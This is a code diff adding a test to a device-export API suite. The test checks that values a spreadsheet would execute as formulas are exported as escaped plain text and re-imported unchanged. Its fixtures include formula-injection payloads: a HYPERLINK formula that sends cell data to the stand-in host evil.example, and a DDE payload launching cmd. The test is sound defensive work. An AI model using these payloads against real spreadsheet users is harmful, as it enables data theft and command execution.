@@ -316,6 +316,39 @@ describe('device export', () => {
     expect(back.body.data).toMatchObject({ updated: 1, failed: 0 });
   });
 
+  it('exports text a spreadsheet would run as a formula as plain text, and imports it back unchanged', async () => {
+    const sn = uniq('FX');
+    const hostile = {
+      devName: '=HYPERLINK("http://evil.example/?d="&B2,"Click me")',
+      factoryName: "+1+cmd|' /C calc'!A0",
+      installSite: '-2+3',
+      remark: '@SUM(1,2)',
+    };
+    const add = await t.call({
+      method: 'POST',
+      url: '/api/device/add',
+      token: admin,
+      body: { type: 'gateway', sn, mac: randomMac(), ...hostile },
+    });
+    expect(add.body.code, add.body.msg).toBe(200);
+    const { wb } = await download(`/api/device/export?sn=${sn}&lang=en-US`, admin);
+    const ws = wb.worksheets[0];
+    const header = sheetRows(ws)[0];
+    const cell = (label: string) => ws.getRow(2).getCell(header.indexOf(label) + 1);
+    const name = cell('Device name');
+    expect(name.type).toBe(ExcelJS.ValueType.String);
+    expect(name.formula).toBeUndefined();
+    expect(name.value).toBe(`'${hostile.devName}`);
+    expect(cell('Manufacturer').value).toBe(`'${hostile.factoryName}`);
+    expect(cell('Install site').value).toBe(`'${hostile.installSite}`);
+    expect(cell('Remark').value).toBe(`'${hostile.remark}`);
+    expect(cell('Serial number').value).toBe(sn);
+
+    const back = await importFile(admin, Buffer.from(await wb.xlsx.writeBuffer()));
+    expect(back.body.data).toMatchObject({ updated: 1, failed: 0 });
+    expect((await bySn([sn]))[0]).toMatchObject(hostile);
+  });
+
   it('keeps to the scope: an agent exports only its devices; other roles none', async () => {
     const { wb } = await download('/api/device/export?lang=en-US', agentB.token);
     const rows = sheetRows(wb.worksheets[0]);
